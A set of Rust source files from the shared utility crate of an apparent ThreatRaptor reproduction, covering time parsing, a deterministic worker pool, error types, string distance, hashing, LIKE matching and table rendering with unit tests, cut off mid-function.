/// `YYYY-MM-DDTHH:MM:SS` (all UTC).
pub fn parse_datetime(s: &str) -> Option<Timestamp> {
    let s = s.trim();
    let (date_part, time_part) = match s.split_once([' ', 'T']) {
        Some((d, t)) => (d, Some(t)),
        None => (s, None),
    };
    let mut dit = date_part.split('-');
    let y: i64 = dit.next()?.parse().ok()?;
    let m: i64 = dit.next()?.parse().ok()?;
    let d: i64 = dit.next()?.parse().ok()?;
    if dit.next().is_some() || !(1..=12).contains(&m) || !(1..=31).contains(&d) {
        return None;
    }
    let mut secs_in_day: i64 = 0;
    if let Some(t) = time_part {
        let mut tit = t.split(':');
        let h: i64 = tit.next()?.parse().ok()?;
        let mi: i64 = tit.next()?.parse().ok()?;
        let se: i64 = match tit.next() {
            Some(x) => x.parse().ok()?,
            None => 0,
        };
        if tit.next().is_some() || h >= 24 || mi >= 60 || se >= 61 {
            return None;
        }
        secs_in_day = h * 3600 + mi * 60 + se;
    }
    let days = days_from_civil(y, m, d);
    Some(Timestamp(days * 86_400 * NANOS_PER_SEC + secs_in_day * NANOS_PER_SEC))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn epoch_is_1970() {
        assert_eq!(parse_datetime("1970-01-01"), Some(Timestamp(0)));
        assert_eq!(parse_datetime("1970-01-01 00:00:01"), Some(Timestamp(NANOS_PER_SEC)));
    }

    #[test]
    fn known_dates() {
        // 2018-04-06 15:00 UTC — the first DARPA TC case timestamp.
        let ts = parse_datetime("2018-04-06 15:00:00").unwrap();
        assert_eq!(ts.0 / NANOS_PER_SEC, 1_523_026_800);
        assert_eq!(format!("{ts}"), "2018-04-06 15:00:00");
    }

    #[test]
    fn display_roundtrip() {
        for s in ["1999-12-31 23:59:59", "2000-02-29 00:00:00", "2021-02-25 12:34:56"] {
            let ts = parse_datetime(s).unwrap();
            assert_eq!(format!("{ts}"), s);
        }
    }

    #[test]
    fn rejects_garbage() {
        assert_eq!(parse_datetime("not a date"), None);
        assert_eq!(parse_datetime("2021-13-01"), None);
        assert_eq!(parse_datetime("2021-01-32"), None);
        assert_eq!(parse_datetime("2021-01-01 25:00:00"), None);
        assert_eq!(parse_datetime("2021-01-01 00:61:00"), None);
    }

    #[test]
    fn t_separator_accepted() {
        assert_eq!(parse_datetime("2021-02-25T01:02:03"), parse_datetime("2021-02-25 01:02:03"));
    }

    #[test]
    fn duration_units() {
        assert_eq!(Duration::from_unit(5, "min"), Some(Duration::from_secs(300)));
        assert_eq!(Duration::from_unit(2, "h"), Some(Duration::from_secs(7200)));
        assert_eq!(Duration::from_unit(1, "day"), Some(Duration::from_secs(86_400)));
        assert_eq!(Duration::from_unit(1, "fortnight"), None);
    }

    #[test]
    fn arithmetic() {
        let t = Timestamp::from_secs(100);
        assert_eq!(t.plus(Duration::from_secs(5)), Timestamp::from_secs(105));
        assert_eq!(t.minus(Duration::from_secs(5)), Timestamp::from_secs(95));
        assert_eq!(Timestamp::from_secs(105).since(t), Duration::from_secs(5));
    }
}
