//! The scoped worker pool behind the parallel execution plane.
//!
//! Every parallel site in the workspace — relstore scan filtering and hash
//! join probes, graphstore path search, the engine's concurrent dependency
//! chains, per-epoch standing-query evaluation — funnels through [`Pool`].
//! The pool is deliberately tiny: plain `std::thread::scope` workers (no
//! external dependencies, nothing long-lived), a work-stealing task queue,
//! and **deterministic, input-ordered result collection**. Parallelism must
//! never be observable in results: callers get task outputs in task order,
//! merge per-task counters in task order, and a one-thread pool executes
//! the exact sequential code path (no threads are spawned at all).
//!
//! The thread count comes from [`RaptorConfig`]: the `RAPTOR_THREADS`
//! environment variable when set, otherwise the machine's
//! [`std::thread::available_parallelism`].

use std::ops::Range;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

/// Runtime configuration shared by the storage engines and the query
/// engine. Currently the parallel execution plane's knobs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct RaptorConfig {
    /// Worker threads for parallel execution. `1` disables parallelism
    /// (every [`Pool`] call takes the sequential code path).
    pub threads: usize,
}

impl RaptorConfig {
    /// Reads the configuration from the environment: `RAPTOR_THREADS` when
    /// set to a positive integer, otherwise the machine's available
    /// parallelism (falling back to 1 if that is unavailable).
    pub fn from_env() -> Self {
        RaptorConfig { threads: threads_from(std::env::var("RAPTOR_THREADS").ok().as_deref()) }
    }
}

/// Parses a `RAPTOR_THREADS`-style override, falling back to the machine's
/// available parallelism.
fn threads_from(var: Option<&str>) -> usize {
    match var.map(str::trim).and_then(|v| v.parse::<usize>().ok()) {
        Some(n) if n >= 1 => n,
        _ => std::thread::available_parallelism().map(usize::from).unwrap_or(1),
    }
}

/// How many tasks [`Pool::run_partitioned`] creates per worker thread:
/// finer than one-per-thread so the work-stealing queue absorbs skew
/// (e.g. one graph anchor with a much deeper search than its peers).
const TASKS_PER_THREAD: usize = 4;

thread_local! {
    /// Set for the lifetime of a pool worker thread. Nested pool calls
    /// (e.g. a store scan inside an engine chain inside a standing-query
    /// advance) run inline instead of spawning threads-of-threads — only
    /// the outermost level fans out, so concurrent OS threads stay bounded
    /// by the configured count instead of multiplying per nesting level.
    static IN_POOL_WORKER: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
}

fn on_pool_worker() -> bool {
    IN_POOL_WORKER.with(std::cell::Cell::get)
}

/// A scoped worker pool. `Copy`-cheap (it is just the thread count);
/// workers are spawned per [`Pool::run`] call inside a `std::thread::scope`
/// and never outlive it, so borrowed task captures need no `'static`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Pool {
    threads: usize,
}

impl Default for Pool {
    /// [`Pool::from_env`].
    fn default() -> Self {
        Pool::from_env()
    }
}

impl Pool {
    /// A pool configured from the environment ([`RaptorConfig::from_env`]).
    pub fn from_env() -> Self {
        Pool::from_config(&RaptorConfig::from_env())
    }

    pub fn from_config(cfg: &RaptorConfig) -> Self {
        Pool { threads: cfg.threads.max(1) }
    }

    /// A pool with an explicit thread count (clamped to at least 1).
    pub fn with_threads(threads: usize) -> Self {
        Pool { threads: threads.max(1) }
    }

    pub fn threads(&self) -> usize {
        self.threads
    }

    /// `true` when every `run` takes the sequential code path.
    pub fn is_sequential(&self) -> bool {
        self.threads == 1
    }

    /// Runs `tasks`, returning their outputs **in task order**.
    ///
    /// With one thread (or at most one task, or when already running on a
    /// pool worker — nested calls never spawn threads-of-threads) the
    /// tasks run inline, in order, on the caller's thread — the exact
    /// sequential code path. Otherwise `min(threads, tasks)` scoped
    /// workers drain a shared work-stealing queue; outputs are reassembled
    /// by task index, so the returned `Vec` is identical at every thread
    /// count.
    ///
    /// A panicking task panics the calling thread (one of the panic
    /// payloads is resumed after all workers have stopped; *which* one is
    /// timing-dependent when several tasks panic) — the pool never
    /// swallows a panic or hangs on one.
    pub fn run<T, F>(&self, tasks: Vec<F>) -> Vec<T>
    where
        T: Send,
        F: FnOnce() -> T + Send,
    {
        let n = tasks.len();
        if self.threads == 1 || n <= 1 || on_pool_worker() {
            return tasks.into_iter().map(|t| t()).collect();
        }
        // Observability: the depth of the queue this fan-out submits, and
        // a running total of pooled tasks (touched once per batch, not per
        // task — worker loops stay metric-free).
        let m = crate::obs::metrics();
        m.gauge_set("raptor_pool_queue_depth", n as i64);
        m.counter_add("raptor_pool_tasks_total", n as u64);
        // Each slot is claimed exactly once via the shared counter; the
        // mutex only guards the `take` (tasks run outside it).
        let slots: Vec<Mutex<Option<F>>> = tasks.into_iter().map(|t| Mutex::new(Some(t))).collect();
        let next = AtomicUsize::new(0);
        let workers = self.threads.min(n);
        let mut results: Vec<(usize, T)> = Vec::with_capacity(n);
        let mut panic: Option<Box<dyn std::any::Any + Send>> = None;
        std::thread::scope(|s| {
            let handles: Vec<_> = (0..workers)
                .map(|_| {
                    s.spawn(|| {
                        IN_POOL_WORKER.with(|w| w.set(true));
                        let mut local = Vec::new();
                        loop {
                            let i = next.fetch_add(1, Ordering::Relaxed);
                            if i >= n {
                                break;
                            }
                            let task =
                                slots[i].lock().expect("task slot").take().expect("claimed once");
                            local.push((i, task()));
                        }
                        local
                    })
                })
                .collect();
            for h in handles {
                match h.join() {
                    Ok(part) => results.extend(part),
                    Err(payload) => panic = panic.take().or(Some(payload)),
                }
            }
        });
        if let Some(payload) = panic {
            std::panic::resume_unwind(payload);
        }
        results.sort_unstable_by_key(|&(i, _)| i);
        debug_assert_eq!(results.len(), n);
        results.into_iter().map(|(_, t)| t).collect()
    }

    /// Partitions `0..n_items` into contiguous ranges of at least
    /// `min_items` items, runs `f` on each range, and returns the per-range
    /// outputs **in range order** — so concatenating them reproduces the
    /// sequential left-to-right traversal exactly, and summing per-range
    /// counters reproduces the sequential totals.
    ///
    /// Below `2 * min_items` (or on a one-thread pool) this is a single
    /// inline `f(0..n_items)` call: the sequential code path, with no
    /// partitioning and no threads.
    pub fn run_partitioned<T, F>(&self, n_items: usize, min_items: usize, f: F) -> Vec<T>
    where
        T: Send,
        F: Fn(Range<usize>) -> T + Sync,
    {
        if n_items == 0 {
            return Vec::new();
        }
        let min_items = min_items.max(1);
        if self.threads == 1 || n_items < min_items.saturating_mul(2) || on_pool_worker() {
            return vec![f(0..n_items)];
        }
        let parts = (n_items / min_items).min(self.threads * TASKS_PER_THREAD).max(2);
        let per = n_items / parts;
        let rem = n_items % parts;
        let mut tasks = Vec::with_capacity(parts);
        let mut start = 0usize;
        for i in 0..parts {
            let len = per + usize::from(i < rem);
            let range = start..start + len;
            start += len;
            let f = &f;
            tasks.push(move || f(range));
        }
        debug_assert_eq!(start, n_items);
        self.run(tasks)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn results_are_input_ordered_at_any_thread_count() {
        let inputs: Vec<usize> = (0..257).collect();
        let expected: Vec<usize> = inputs.iter().map(|i| i * 3).collect();
        for threads in [1, 2, 4, 8] {
            let pool = Pool::with_threads(threads);
            let tasks: Vec<_> = inputs.iter().map(|&i| move || i * 3).collect();
            assert_eq!(pool.run(tasks), expected, "threads={threads}");
        }
    }

    #[test]
    fn partitioned_concatenation_is_sequential_order() {
        let items: Vec<i64> = (0..10_000).map(|i| i * 7 % 13).collect();
        let sequential: Vec<i64> = items.iter().copied().filter(|&v| v % 2 == 0).collect();
        for threads in [1, 3, 8] {
            let pool = Pool::with_threads(threads);
            let parts = pool.run_partitioned(items.len(), 64, |r| {
                items[r].iter().copied().filter(|&v| v % 2 == 0).collect::<Vec<_>>()
            });
            assert_eq!(parts.concat(), sequential, "threads={threads}");
        }
    }

    #[test]
    fn sequential_pool_spawns_no_partitions() {
        let pool = Pool::with_threads(1);
        assert!(pool.is_sequential());
        let calls = AtomicUsize::new(0);
        let parts = pool.run_partitioned(100_000, 1, |r| {
            calls.fetch_add(1, Ordering::Relaxed);
            r.len()
        });
        // One inline call over the whole range: the exact sequential path.
        assert_eq!(parts, vec![100_000]);
        assert_eq!(calls.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn small_inputs_stay_inline_even_on_parallel_pools() {
        let pool = Pool::with_threads(8);
        let parts = pool.run_partitioned(10, 1000, |r| r.len());
        assert_eq!(parts, vec![10]);
    }

    /// A worker panic must reach the caller (not hang the scope, not get
    /// swallowed into a truncated result).
    #[test]
    #[should_panic(expected = "worker exploded")]
    fn worker_panics_propagate() {
        let pool = Pool::with_threads(4);
        let tasks: Vec<Box<dyn FnOnce() -> usize + Send>> = (0..16usize)
            .map(|i| {
                Box::new(move || {
                    if i == 7 {
                        panic!("worker exploded");
                    }
                    i
                }) as Box<dyn FnOnce() -> usize + Send>
            })
            .collect();
        let _ = pool.run(tasks);
    }

    #[test]
    #[should_panic(expected = "worker exploded")]
    fn worker_panics_propagate_sequentially_too() {
        let pool = Pool::with_threads(1);
        let tasks: Vec<Box<dyn FnOnce() -> usize + Send>> =
            vec![Box::new(|| panic!("worker exploded"))];
        let _ = pool.run(tasks);
    }

    #[test]
    fn thread_override_parses() {
        assert_eq!(threads_from(Some("4")), 4);
        assert_eq!(threads_from(Some(" 2 ")), 2);
        // Invalid or zero overrides fall back to the machine default.
        let machine = threads_from(None);
        assert!(machine >= 1);
        assert_eq!(threads_from(Some("0")), machine);
        assert_eq!(threads_from(Some("lots")), machine);
    }

    /// Nested pool calls never fan out again: a task already running on a
    /// pool worker executes inner pool calls inline, so concurrent OS
    /// threads stay bounded by the configured count.
    #[test]
    fn nested_pool_calls_run_inline() {
        let pool = Pool::with_threads(4);
        let tasks: Vec<_> =
            (0..8).map(|_| move || pool.run_partitioned(100_000, 1, |r| r.len()).len()).collect();
        // Each inner run_partitioned would split into multiple parts at the
        // top level; from inside a worker it must be one inline call.
        assert_eq!(pool.run(tasks), vec![1; 8]);
        // ...while the same call from the outside does partition.
        assert!(pool.run_partitioned(100_000, 1, |r| r.len()).len() > 1);
    }

    #[test]
    fn empty_and_single_task_lists() {
        let pool = Pool::with_threads(4);
        let empty: Vec<fn() -> usize> = Vec::new();
        assert!(pool.run(empty).is_empty());
        assert_eq!(pool.run(vec![|| 42]), vec![42]);
        assert!(pool.run_partitioned(0, 16, |r| r.len()).is_empty());
    }
}
