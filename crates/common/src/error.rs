//! The workspace-wide error type.
//!
//! Each subsystem reports failures through [`Error`] with a category that
//! tells the caller which layer rejected the input (a TBQL syntax error, an
//! unknown column in a compiled SQL query, a malformed audit record, ...).
//! Positions are tracked as byte offsets into the offending source text where
//! applicable so tools can render carets.

use std::fmt;

/// Result alias used across the workspace.
pub type Result<T, E = Error> = std::result::Result<T, E>;

/// Which layer produced the error.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ErrorKind {
    /// Lexical or syntactic error in a query or report.
    Syntax,
    /// Semantic error (unknown identifier, type mismatch, ...).
    Semantic,
    /// Malformed or inconsistent audit data.
    Audit,
    /// Storage-layer failure (unknown table/column, codec failure, ...).
    Storage,
    /// Query execution failure.
    Execution,
    /// Extraction pipeline failure.
    Extraction,
    /// Configuration / synthesis plan error.
    Config,
}

impl fmt::Display for ErrorKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            ErrorKind::Syntax => "syntax error",
            ErrorKind::Semantic => "semantic error",
            ErrorKind::Audit => "audit data error",
            ErrorKind::Storage => "storage error",
            ErrorKind::Execution => "execution error",
            ErrorKind::Extraction => "extraction error",
            ErrorKind::Config => "configuration error",
        };
        f.write_str(s)
    }
}

/// An error with a category, a message, and an optional source position.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Error {
    pub kind: ErrorKind,
    pub message: String,
    /// Byte offset into the source text, when the error refers to one.
    pub offset: Option<usize>,
}

impl Error {
    pub fn new(kind: ErrorKind, message: impl Into<String>) -> Self {
        Error { kind, message: message.into(), offset: None }
    }

    pub fn at(kind: ErrorKind, message: impl Into<String>, offset: usize) -> Self {
        Error { kind, message: message.into(), offset: Some(offset) }
    }

    pub fn syntax(message: impl Into<String>, offset: usize) -> Self {
        Self::at(ErrorKind::Syntax, message, offset)
    }

    pub fn semantic(message: impl Into<String>) -> Self {
        Self::new(ErrorKind::Semantic, message)
    }

    pub fn storage(message: impl Into<String>) -> Self {
        Self::new(ErrorKind::Storage, message)
    }

    pub fn execution(message: impl Into<String>) -> Self {
        Self::new(ErrorKind::Execution, message)
    }

    pub fn audit(message: impl Into<String>) -> Self {
        Self::new(ErrorKind::Audit, message)
    }

    pub fn extraction(message: impl Into<String>) -> Self {
        Self::new(ErrorKind::Extraction, message)
    }

    pub fn config(message: impl Into<String>) -> Self {
        Self::new(ErrorKind::Config, message)
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.offset {
            Some(off) => write!(f, "{} at byte {}: {}", self.kind, off, self.message),
            None => write!(f, "{}: {}", self.kind, self.message),
        }
    }
}

impl std::error::Error for Error {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_with_and_without_offset() {
        let e = Error::syntax("unexpected token `)`", 17);
        assert_eq!(e.to_string(), "syntax error at byte 17: unexpected token `)`");
        let e = Error::storage("unknown table `procs`");
        assert_eq!(e.to_string(), "storage error: unknown table `procs`");
    }

    #[test]
    fn kind_is_preserved() {
        assert_eq!(Error::semantic("x").kind, ErrorKind::Semantic);
        assert_eq!(Error::execution("x").kind, ErrorKind::Execution);
        assert_eq!(Error::audit("x").kind, ErrorKind::Audit);
        assert_eq!(Error::extraction("x").kind, ErrorKind::Extraction);
        assert_eq!(Error::config("x").kind, ErrorKind::Config);
    }
}
