//! String distance metrics.
//!
//! The fuzzy search mode (Section III-F of the paper) aligns IOC strings from
//! a TBQL query with entity attributes stored in the database using
//! Levenshtein distance, so typos or small IOC changes still retrieve the
//! right entities. The IOC scan-and-merge step of the extraction pipeline
//! also uses character-level overlap.

/// Levenshtein edit distance (insertions, deletions, substitutions all
/// cost 1). Two-row dynamic program, O(min(a,b)) memory.
pub fn levenshtein(a: &str, b: &str) -> usize {
    let a: Vec<char> = a.chars().collect();
    let b: Vec<char> = b.chars().collect();
    // Keep the shorter string in the inner dimension.
    let (short, long) = if a.len() <= b.len() { (&a, &b) } else { (&b, &a) };
    if short.is_empty() {
        return long.len();
    }
    let mut prev: Vec<usize> = (0..=short.len()).collect();
    let mut cur: Vec<usize> = vec![0; short.len() + 1];
    for (i, &lc) in long.iter().enumerate() {
        cur[0] = i + 1;
        for (j, &sc) in short.iter().enumerate() {
            let sub = prev[j] + usize::from(lc != sc);
            cur[j + 1] = sub.min(prev[j + 1] + 1).min(cur[j] + 1);
        }
        std::mem::swap(&mut prev, &mut cur);
    }
    prev[short.len()]
}

/// Normalized similarity in `[0, 1]`: `1 - distance / max_len`.
/// Two empty strings are perfectly similar.
pub fn similarity(a: &str, b: &str) -> f64 {
    let max_len = a.chars().count().max(b.chars().count());
    if max_len == 0 {
        return 1.0;
    }
    1.0 - levenshtein(a, b) as f64 / max_len as f64
}

/// Character-level containment overlap used by IOC merging: the fraction of
/// the shorter string's characters covered by the longest common substring.
pub fn containment_overlap(a: &str, b: &str) -> f64 {
    let a: Vec<char> = a.chars().collect();
    let b: Vec<char> = b.chars().collect();
    let min_len = a.len().min(b.len());
    if min_len == 0 {
        return 0.0;
    }
    longest_common_substring(&a, &b) as f64 / min_len as f64
}

fn longest_common_substring(a: &[char], b: &[char]) -> usize {
    // O(len(a) * len(b)) dynamic program over suffix match lengths.
    let mut best = 0usize;
    let mut prev = vec![0usize; b.len() + 1];
    let mut cur = vec![0usize; b.len() + 1];
    for &ac in a {
        for (j, &bc) in b.iter().enumerate() {
            cur[j + 1] = if ac == bc { prev[j] + 1 } else { 0 };
            best = best.max(cur[j + 1]);
        }
        std::mem::swap(&mut prev, &mut cur);
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classic_cases() {
        assert_eq!(levenshtein("kitten", "sitting"), 3);
        assert_eq!(levenshtein("", ""), 0);
        assert_eq!(levenshtein("abc", ""), 3);
        assert_eq!(levenshtein("", "abc"), 3);
        assert_eq!(levenshtein("abc", "abc"), 0);
        assert_eq!(levenshtein("flaw", "lawn"), 2);
    }

    #[test]
    fn ioc_typo_is_close() {
        // The use case from the paper: a typo'd IOC still aligns.
        let d = levenshtein("/usr/bin/curl", "/usr/bin/cur1");
        assert_eq!(d, 1);
        assert!(similarity("/usr/bin/curl", "/usr/bin/cur1") > 0.9);
    }

    #[test]
    fn unicode_counts_chars_not_bytes() {
        assert_eq!(levenshtein("café", "cafe"), 1);
    }

    #[test]
    fn similarity_bounds() {
        assert_eq!(similarity("", ""), 1.0);
        assert_eq!(similarity("abc", "abc"), 1.0);
        assert_eq!(similarity("abc", "xyz"), 0.0);
    }

    #[test]
    fn containment() {
        // "upload.tar" is wholly contained in "/tmp/upload.tar.bz2".
        assert_eq!(containment_overlap("upload.tar", "/tmp/upload.tar.bz2"), 1.0);
        assert_eq!(containment_overlap("", "abc"), 0.0);
        assert!(containment_overlap("abcd", "zzcdzz") >= 0.5);
    }

    #[test]
    fn symmetric() {
        for (a, b) in [("/bin/tar", "/bin/bzip2"), ("a", "ab"), ("", "x")] {
            assert_eq!(levenshtein(a, b), levenshtein(b, a));
            assert_eq!(containment_overlap(a, b), containment_overlap(b, a));
        }
    }
}
