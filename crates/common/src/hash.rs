//! A fast, non-cryptographic hash function.
//!
//! System audit data is dominated by hash-table operations over small keys
//! (entity ids, interned symbols, short strings). The default SipHash 1-3 in
//! `std` trades speed for HashDoS resistance we do not need on trusted,
//! locally generated data, so every crate in the workspace uses the `Fx`
//! multiply-xor scheme (the one used by rustc) through the aliases below.

use std::hash::{BuildHasherDefault, Hasher};

/// Multiply-xor hasher (the "Fx" scheme used by the Rust compiler).
///
/// Not resistant to adversarial keys; do not expose to untrusted input that
/// controls table keys.
#[derive(Default, Clone, Copy)]
pub struct FxHasher {
    state: u64,
}

const SEED: u64 = 0x51_7c_c1_b7_27_22_0a_95;

impl FxHasher {
    #[inline]
    fn add_to_hash(&mut self, word: u64) {
        self.state = (self.state.rotate_left(5) ^ word).wrapping_mul(SEED);
    }
}

impl Hasher for FxHasher {
    #[inline]
    fn finish(&self) -> u64 {
        self.state
    }

    #[inline]
    fn write(&mut self, bytes: &[u8]) {
        // Consume 8 bytes at a time, then the tail.
        let mut chunks = bytes.chunks_exact(8);
        for chunk in &mut chunks {
            let word = u64::from_le_bytes(chunk.try_into().unwrap());
            self.add_to_hash(word);
        }
        let rem = chunks.remainder();
        if !rem.is_empty() {
            let mut word = 0u64;
            for (i, &b) in rem.iter().enumerate() {
                word |= (b as u64) << (i * 8);
            }
            // Fold in the length so "a" and "a\0" differ.
            self.add_to_hash(word ^ ((rem.len() as u64) << 56));
        }
    }

    #[inline]
    fn write_u8(&mut self, i: u8) {
        self.add_to_hash(i as u64);
    }

    #[inline]
    fn write_u32(&mut self, i: u32) {
        self.add_to_hash(i as u64);
    }

    #[inline]
    fn write_u64(&mut self, i: u64) {
        self.add_to_hash(i);
    }

    #[inline]
    fn write_usize(&mut self, i: usize) {
        self.add_to_hash(i as u64);
    }
}

/// `HashMap` keyed with [`FxHasher`].
pub type FxHashMap<K, V> = std::collections::HashMap<K, V, BuildHasherDefault<FxHasher>>;
/// `HashSet` keyed with [`FxHasher`].
pub type FxHashSet<T> = std::collections::HashSet<T, BuildHasherDefault<FxHasher>>;

#[cfg(test)]
mod tests {
    use super::*;

    fn hash_of(bytes: &[u8]) -> u64 {
        let mut h = FxHasher::default();
        h.write(bytes);
        h.finish()
    }

    #[test]
    fn distinct_inputs_hash_differently() {
        assert_ne!(hash_of(b"/bin/tar"), hash_of(b"/bin/bzip2"));
        assert_ne!(hash_of(b""), hash_of(b"\0"));
        assert_ne!(hash_of(b"a"), hash_of(b"a\0"));
        assert_ne!(hash_of(b"abcdefgh"), hash_of(b"abcdefg"));
    }

    #[test]
    fn deterministic() {
        assert_eq!(hash_of(b"192.168.29.128"), hash_of(b"192.168.29.128"));
    }

    #[test]
    fn map_roundtrip() {
        let mut m: FxHashMap<String, u32> = FxHashMap::default();
        for i in 0..1000u32 {
            m.insert(format!("/tmp/file{i}"), i);
        }
        for i in 0..1000u32 {
            assert_eq!(m.get(&format!("/tmp/file{i}")), Some(&i));
        }
    }

    #[test]
    fn integer_writes_differ_from_byte_writes() {
        let mut a = FxHasher::default();
        a.write_u64(7);
        let mut b = FxHasher::default();
        b.write_u8(7);
        // Not strictly required by the Hasher contract, but our scheme folds
        // words identically, so make sure at least state evolves.
        assert_eq!(a.finish(), b.finish());
    }
}
