//! Shared primitives for the ThreatRaptor reproduction.
//!
//! This crate holds the small, dependency-light building blocks used by every
//! other crate in the workspace:
//!
//! * [`hash`] — a fast, non-cryptographic hasher (`FxHashMap` / `FxHashSet`
//!   aliases) used for all internal hash tables,
//! * [`ids`] — strongly-typed integer identifiers,
//! * [`time`] — nanosecond timestamps, durations and datetime parsing used by
//!   audit events and TBQL time windows,
//! * [`error`] — the workspace-wide error type,
//! * [`like`] — SQL `LIKE` wildcard matching, shared by the relational
//!   executor, the graph predicate lowering and selectivity estimation,
//! * [`pool`] — the scoped worker pool behind the parallel execution plane
//!   (deterministic, input-ordered result collection; thread count from
//!   `RAPTOR_THREADS` / available parallelism),
//! * [`strdist`] — Levenshtein distance and normalized string similarity
//!   (used by the fuzzy search mode for node alignment),
//! * [`intern`] — string interning: the plain [`Interner`] and the
//!   [`SharedDict`] shared dictionary plane (one concurrently-readable
//!   dictionary above both storage backends; per-row reads never lock),
//! * [`io`] — the durability plane's I/O substrate: the injectable [`io::Fs`]
//!   file backend (real directory, in-memory, and the [`io::FailpointFs`]
//!   deterministic fault injector), IEEE CRC-32, and length-checked binary
//!   cursor helpers shared by the WAL and checkpoint codecs,
//! * [`obs`] — the observability plane: the lock-free [`obs::TraceSink`]
//!   span ring (env-gated by `RAPTOR_TRACE`), the global
//!   [`obs::MetricsRegistry`] with JSON / Prometheus snapshots, and the
//!   [`obs::SlowQueryLog`] (`RAPTOR_SLOW_QUERY_MS`),
//! * [`table`] — minimal fixed-width text-table rendering used by the
//!   benchmark harness to print paper-style tables.

pub mod error;
pub mod hash;
pub mod ids;
pub mod intern;
pub mod io;
pub mod like;
pub mod obs;
pub mod pool;
pub mod strdist;
pub mod table;
pub mod time;

pub use error::{Error, Result};
pub use hash::{FxHashMap, FxHashSet, FxHasher};
pub use intern::{Interner, SharedDict, Sym};
pub use pool::{Pool, RaptorConfig};
pub use time::{Duration, Timestamp};
