//! SQL `LIKE` pattern matching.
//!
//! TBQL attribute filters use `%`-wildcards ("`%` matches any character
//! sequence", Section III-D) and they surface in three places: compiled SQL
//! predicates (relstore), Cypher `CONTAINS`-family lowering (graphstore),
//! and selectivity estimation over collected column statistics
//! (raptor-storage). The matcher lives here so all three share one
//! semantics: `%` = any run, `_` = any single character, no escape syntax
//! (audit strings never need one).

/// Returns whether `text` matches the SQL LIKE `pattern`.
///
/// Iterative two-pointer algorithm with backtracking over the last `%` —
/// O(n·m) worst case, linear on patterns without `%`.
pub fn like_match(pattern: &str, text: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let t: Vec<char> = text.chars().collect();
    let (mut pi, mut ti) = (0usize, 0usize);
    let mut star: Option<usize> = None;
    let mut star_ti = 0usize;
    while ti < t.len() {
        if pi < p.len() && (p[pi] == '_' || p[pi] == t[ti]) {
            pi += 1;
            ti += 1;
        } else if pi < p.len() && p[pi] == '%' {
            star = Some(pi);
            star_ti = ti;
            pi += 1;
        } else if let Some(s) = star {
            // Backtrack: let the last % absorb one more character.
            pi = s + 1;
            star_ti += 1;
            ti = star_ti;
        } else {
            return false;
        }
    }
    while pi < p.len() && p[pi] == '%' {
        pi += 1;
    }
    pi == p.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exact_without_wildcards() {
        assert!(like_match("/bin/tar", "/bin/tar"));
        assert!(!like_match("/bin/tar", "/bin/tar "));
        assert!(!like_match("/bin/tar", "/bin/ta"));
    }

    #[test]
    fn percent_wildcards() {
        assert!(like_match("%/bin/tar%", "/bin/tar"));
        assert!(like_match("%/bin/tar%", "/usr/bin/tar"));
        assert!(like_match("%upload%", "/tmp/upload.tar.bz2"));
        assert!(like_match("%.tar", "/tmp/upload.tar"));
        assert!(like_match("/tmp/%", "/tmp/upload.tar"));
        assert!(!like_match("%passwd%", "/etc/shadow"));
        assert!(like_match("%", ""));
        assert!(like_match("%%", "anything"));
    }

    #[test]
    fn underscore_wildcard() {
        assert!(like_match("/tmp/upload.ta_", "/tmp/upload.tar"));
        assert!(!like_match("/tmp/upload.ta_", "/tmp/upload.t"));
        assert!(like_match("_%", "x"));
        assert!(!like_match("_", ""));
    }

    #[test]
    fn multiple_percents_backtrack() {
        assert!(like_match("%a%b%", "xxaxxbxx"));
        assert!(!like_match("%a%b%", "xxbxxaxx"));
        assert!(like_match("%ab%ab%", "ababab"));
    }
}
