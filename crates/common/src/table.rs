//! Fixed-width text-table rendering.
//!
//! The benchmark harness reproduces the paper's tables on stdout. This is a
//! tiny column-aligned renderer — headers, rows of strings, right-alignment
//! for numeric-looking cells.

use std::fmt::Write as _;

/// A simple text table builder.
#[derive(Debug, Default)]
pub struct TextTable {
    header: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl TextTable {
    pub fn new<S: Into<String>>(header: impl IntoIterator<Item = S>) -> Self {
        TextTable { header: header.into_iter().map(Into::into).collect(), rows: Vec::new() }
    }

    pub fn row<S: Into<String>>(&mut self, cells: impl IntoIterator<Item = S>) -> &mut Self {
        let cells: Vec<String> = cells.into_iter().map(Into::into).collect();
        debug_assert_eq!(cells.len(), self.header.len(), "row arity mismatch");
        self.rows.push(cells);
        self
    }

    /// Renders the table. Cells that parse as numbers are right-aligned.
    pub fn render(&self) -> String {
        let ncols = self.header.len();
        let mut widths: Vec<usize> = self.header.iter().map(|h| h.chars().count()).collect();
        for row in &self.rows {
            for (i, cell) in row.iter().enumerate() {
                widths[i] = widths[i].max(cell.chars().count());
            }
        }
        let mut out = String::new();
        let write_row = |out: &mut String, cells: &[String]| {
            for (i, cell) in cells.iter().enumerate() {
                if i > 0 {
                    out.push_str("  ");
                }
                let w = widths[i];
                let len = cell.chars().count();
                let pad = w.saturating_sub(len);
                if is_numeric(cell) {
                    for _ in 0..pad {
                        out.push(' ');
                    }
                    out.push_str(cell);
                } else {
                    out.push_str(cell);
                    if i + 1 < ncols {
                        for _ in 0..pad {
                            out.push(' ');
                        }
                    }
                }
            }
            out.push('\n');
        };
        write_row(&mut out, &self.header);
        let total: usize = widths.iter().sum::<usize>() + 2 * (ncols.saturating_sub(1));
        for _ in 0..total {
            out.push('-');
        }
        out.push('\n');
        for row in &self.rows {
            write_row(&mut out, row);
        }
        out
    }
}

fn is_numeric(s: &str) -> bool {
